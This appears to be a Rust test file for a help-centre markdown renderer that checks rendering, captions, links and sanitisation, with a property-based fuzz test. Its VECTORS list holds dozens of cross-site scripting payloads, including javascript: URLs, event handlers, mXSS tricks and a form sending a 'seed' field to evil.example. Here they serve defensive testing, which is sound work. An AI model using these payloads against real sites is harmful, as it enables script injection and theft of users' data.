//! What readers are shown, and what never reaches them.

use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;
use kernel::Locale;

const PICTURE: &str = "0123456789abcdef0123456789abcdef";
const VIDEO: &str = "11111111111111111111111111111111";
const CAPTIONS: &str = "22222222222222222222222222222222";
const POSTER: &str = "33333333333333333333333333333333";
const PAPER: &str = "44444444444444444444444444444444";

fn files() -> FileLinks {
    let file =
        |name: &str, kind: &str, size| ShownFile { name: name.into(), content_type: kind.into(), size };
    let files = BTreeMap::from([
        (PICTURE.to_owned(), file("截图 1.png", "image/png", Some((640, 480)))),
        (VIDEO.to_owned(), file("backup.mp4", "video/mp4", None)),
        (CAPTIONS.to_owned(), file("backup.vtt", "text/vtt", None)),
        (POSTER.to_owned(), file("poster.jpg", "image/jpeg", Some((100, 50)))),
        (PAPER.to_owned(), file("form.pdf", "application/pdf", None)),
    ]);
    FileLinks::new(files, Locale::ZhCn, "文字稿")
}

fn html(markdown: &str) -> String {
    render_html(markdown, &files()).into_string()
}

#[test]
fn the_usual_forms_are_shown() {
    for (markdown, wanted) in [
        ("# 提现\n\n# 提现", "<h2 id=\"h-提现\">提现</h2>\n<h2 id=\"h-提现--2\">提现</h2>\n"),
        ("### A *b* `c`", "<h3 id=\"h-a-b-c\">A <em>b</em> <code>c</code></h3>\n"),
        ("a **b** ~~c~~", "<p>a <strong>b</strong> <del>c</del></p>\n"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n"),
        ("3. three", "<ol start=\"3\">\n<li>three</li>\n</ol>\n"),
        ("- [x] done", "<ul>\n<li><input disabled=\"\" type=\"checkbox\" checked=\"\">\ndone</li>\n</ul>\n"),
        (
            "[x](https://a.example/b)",
            "<p><a href=\"https://a.example/b\" rel=\"noopener noreferrer\">x</a></p>\n",
        ),
        ("[x](/help/en/a/fees)", "<p><a href=\"/help/en/a/fees\" rel=\"noopener noreferrer\">x</a></p>\n"),
    ] {
        assert_eq!(html(markdown), wanted, "{markdown:?}");
    }
    assert!(html("[x](lost-phone#steps)").contains("href=\"lost-phone#steps\""));
    assert!(html("|a|b|\n|-|-|\n|1|2|").contains("<td>1</td>"));
}

#[test]
fn pictures_and_videos_are_files_of_ours() {
    let picture = html(&format!("![余额页面](/help/files/{PICTURE}/whatever.png \"标题\")"));
    assert_eq!(
        picture,
        format!(
            "<p><img src=\"/help/files/{PICTURE}/%E6%88%AA%E5%9B%BE%201.png\" alt=\"余额页面\" title=\"标题\" \
             width=\"640\" height=\"480\" loading=\"lazy\"></p>\n"
        )
    );
    let title = format!("captions={CAPTIONS} poster={POSTER}");
    let video = html(&format!(
        "![备份钱包](/help/files/{VIDEO}/v.mp4 \"{title}\")\n\n```transcript\n第一步\n<b>二</b>\n```"
    ));
    assert_eq!(
        video,
        format!(
            "<figure><video controls=\"\" preload=\"none\" poster=\"/help/files/{POSTER}/poster.jpg\">\
             <source src=\"/help/files/{VIDEO}/backup.mp4\" type=\"video/mp4\">\
             <track kind=\"captions\" src=\"/help/files/{CAPTIONS}/backup.vtt\" srclang=\"zh-CN\" default=\"\">\
             </video><figcaption>备份钱包</figcaption></figure>\n\
             <details class=\"transcript\"><summary>文字稿</summary><p>第一步<br>\n&lt;b&gt;二&lt;/b&gt;</p></details>\n"
        )
    );
    // What is no file of ours, or cannot be shown, is its words.
    for address in [
        "https://evil.example/x.png",
        "//evil.example/x.png",
        "/help/files/zz/x.png",
        "data:image/png;base64,AA",
    ] {
        assert_eq!(html(&format!("![词]({address})")), "<p>词</p>\n", "{address}");
    }
    assert_eq!(html(&format!("![表](/help/files/{PAPER}/form.pdf)")), "<p>表</p>\n");
}

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](javascript:alert(1))",
    "![\"onerror=alert(1) x=\"](/help/files/0123456789abcdef0123456789abcdef/x)",
    "![a](/help/files/0123456789abcdef0123456789abcdef/x \"\\\" onerror=\\\"alert(1)\")",
    "![a](/help/files/0123456789abcdef0123456789abcdef/../../../x)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=seed><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<video src=https://evil.example/x.mp4 autoplay onplay=alert(1)></video>",
    "```transcript\n</p></details><script>alert(1)</script>\n```",
    "```\" onmouseover=\"alert(1)\ncode\n```",
    "# <img src=x onerror=alert(1)>",
    "# x\" onclick=\"alert(1)",
    "| <script>alert(1)</script> |\n|-|\n| x |",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<p><b><p><script><p></script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a name=body><img name=cookie id=location>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
];

/// Nothing in the markup runs, loads from elsewhere or asks for anything.
fn harmless(html: &str) -> Result<(), String> {
    let known = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "details",
        "em",
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "source",
        "strong",
        "summary",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "track",
        "ul",
        "video",
    ];
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap_or_default();
        if !known.contains(&name) {
            return Err(format!("element {name:?} in {html}"));
        }
        // Attributes outside of quoted values.
        for (n, piece) in tag.split('"').enumerate() {
            let lower = piece.to_ascii_lowercase();
            if n % 2 == 0 && (lower.contains(" on") || lower.contains("style") || lower.contains("action")) {
                return Err(format!("attribute {piece:?} in {html}"));
            }
            if n % 2 == 1 && lower.trim().starts_with("javascript") {
                return Err(format!("address {piece:?} in {html}"));
            }
        }
        if ["img", "source", "track", "video"].contains(&name)
            && let Some(piece) = tag.split('"').find(|piece| piece.contains("//"))
        {
            return Err(format!("loads {piece:?} in {html}"));
        }
    }
    Ok(())
}

#[test]
fn no_vector_runs_or_loads_anything() {
    for vector in VECTORS {
        for text in [(*vector).to_owned(), format!("a {vector} b"), format!("> {vector}\n\n1. {vector}")] {
            harmless(&html(&text)).unwrap_or_else(|why| panic!("{text:?}: {why}"));
        }
    }
    let all = VECTORS.join("\n\n");
    harmless(&html(&all)).unwrap_or_else(|why| panic!("{why}"));
}

#[test]
fn the_check_itself_sees_what_runs() {
    for bad in [
        "<script>",
        "<img src=\"/x\" onerror=\"a\">",
        "<a href=\"javascript:x\">",
        "<img src=\"https://e.example\">",
    ] {
        assert!(harmless(bad).is_err(), "{bad}");
    }
}

#[test]
fn a_text_is_read_without_its_marks() {
    let markdown = "# 提现\n\n先看 **余额**：\n\n1. 打开钱包\n2. 点“提现”\n   - 选网络\n\n![按钮](/help/files/x/y.png)\n\n|a|b|\n|-|-|\n|1|2|\n\n```transcript\n不要\n```\n";
    assert_eq!(
        plain_text(markdown),
        "提现\n先看 余额：\n1. 打开钱包\n2. 点“提现”\n• 选网络\n按钮\na  b\n1  2"
    );
}

#[test]
fn the_table_of_contents_names_what_the_page_names() {
    let markdown = "## One\n\n### Two `x`\n\n## One";
    let entries = toc(markdown);
    let page = html(markdown);
    for entry in &entries {
        assert!(page.contains(&format!("<h{} id=\"{}\">", entry.level, entry.id)), "{entry:?} in {page}");
    }
    assert_eq!(entries.iter().map(|e| e.text.as_str()).collect::<Vec<_>>(), ["One", "Two x", "One"]);
}

#[test]
fn what_is_named_and_what_is_missing_is_found() {
    let markdown = format!(
        "![](/help/files/{PICTURE}/a.png) ![v](/help/files/{VIDEO}/v.mp4 \"poster={POSTER}\") \
         ![x](https://e.example/x.png) [form](/help/files/{PAPER}/f.pdf) [y](/help/en/a/gone)"
    );
    assert_eq!(files_in(&markdown), [PICTURE, VIDEO, POSTER, PAPER]);
    assert_eq!(links_in(&markdown), [format!("/help/files/{PAPER}/f.pdf"), "/help/en/a/gone".to_owned()]);
    let wanted = vec![
        Problem::MissingAlt(format!("/help/files/{PICTURE}/a.png")),
        Problem::MissingCaptions(format!("/help/files/{VIDEO}/v.mp4")),
        Problem::UnknownFile("https://e.example/x.png".to_owned()),
    ];
    assert_eq!(problems_of(&markdown, &files()), wanted);
}

proptest! {
    #[test]
    fn anything_typed_is_harmless_and_clean_for_good(pieces in prop::collection::vec(
        prop_oneof![
            prop::sample::select(VECTORS).prop_map(str::to_owned),
            prop::sample::select(vec!["<", ">", "\"", "'", "`", "```", "[", "](", ")", "![", "#", "\n", "\n\n", "  ", "|", "-", "&#", ";", "\u{0}"]).prop_map(str::to_owned),
            ".{0,8}",
        ], 0..24)) {
        let page = html(&pieces.concat());
        if let Err(why) = harmless(&page) {
            return Err(TestCaseError::fail(why));
        }
        prop_assert_eq!(super::clean::clean(&page), page);
    }

    #[test]
    fn plain_text_never_fails(text in "(?s).{0,200}") {
        let _ = plain_text(&text);
        let _ = toc(&text);
    }
}
